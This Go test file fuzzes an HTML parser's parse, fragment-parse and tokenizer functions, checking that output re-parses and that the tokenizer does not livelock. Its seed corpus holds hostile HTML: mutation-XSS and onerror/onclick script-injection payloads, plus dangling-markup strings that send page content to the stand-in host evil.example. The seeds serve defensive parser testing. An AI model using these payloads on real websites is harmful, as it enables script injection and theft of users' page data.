package htmlparse

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// Native fuzz targets. `go test` runs the seed corpus as regular tests;
// `go test -fuzz FuzzParse ./internal/htmlparse` explores further. Every
// interesting payload from the paper is a seed, and so is every hostile
// shape at 1 KiB.

var fuzzSeeds = append([]string{
	"",
	"plain text",
	"<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form action="https://evil.example"><input type="submit"><textarea>`,
	`<img src='http://evil.example/?content=`,
	`<script src="https://evil.example/x.js" inj="`,
	`<p <body onload="checkSecurity()">`,
	`<table><tr><strong>x</strong></tr></table>`,
	`<img/src="x"/onerror="alert('XSS')">`,
	`<img src="users/injection"onerror="alert('XSS')">`,
	`<div id="injection" onclick="evil()" onclick="benign()">`,
	"<svg><desc><div>breakout</div></svg>",
	"<select><option><p id=private>secret</p></select>",
	"<!--<!-- nested --><![CDATA[x]]><?pi?>",
	"<script><!--<script></script>--></script>",
	"&amp;&#x41;&notin;&not;&bogus;&#xD800;&#1114112;",
	"<a b='c\x00d'>\x00",
	"<title>&amp;</title><textarea>\nx</textarea><plaintext>rest",
	"<html lang=a><html lang=b><body x=1><body y=2>",
}, hostileSeeds(1<<10)...)

func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		res, err := Parse(data)
		if err == ErrNotUTF8 {
			if utf8.Valid(data) {
				t.Fatalf("valid UTF-8 rejected")
			}
			return
		}
		if err != nil {
			t.Fatalf("unexpected error: %v", err)
		}
		// The output must re-parse without failure.
		out := RenderString(res.Doc)
		if _, err := Parse([]byte(out)); err != nil {
			t.Fatalf("render not re-parseable: %v\nrender: %q", err, out)
		}
	})
}

func FuzzParseFragment(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s), "div")
	}
	f.Add([]byte("<tr><td>x"), "table")
	f.Add([]byte("<option>x"), "select")
	f.Add([]byte("raw"), "textarea")
	f.Fuzz(func(t *testing.T, data []byte, context string) {
		// Normalize the fuzzed context to a plausible tag name.
		context = strings.ToLower(context)
		ok := context != ""
		for _, r := range context {
			if r < 'a' || r > 'z' {
				ok = false
				break
			}
		}
		if !ok {
			context = "div"
		}
		if _, err := ParseFragment(data, context); err != nil && err != ErrNotUTF8 {
			t.Fatalf("fragment(%q): %v", context, err)
		}
	})
}

func FuzzTokenizer(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		pre, err := Preprocess(data)
		if err != nil {
			return
		}
		z := NewTokenizer(pre.Input)
		tokens := 0
		for {
			tok := z.Next()
			if tok.Type == EOFToken {
				break
			}
			tokens++
			if tokens > len(pre.Input)+16 {
				t.Fatalf("tokenizer emitted more tokens (%d) than input bytes (%d): livelock",
					tokens, len(pre.Input))
			}
		}
	})
}
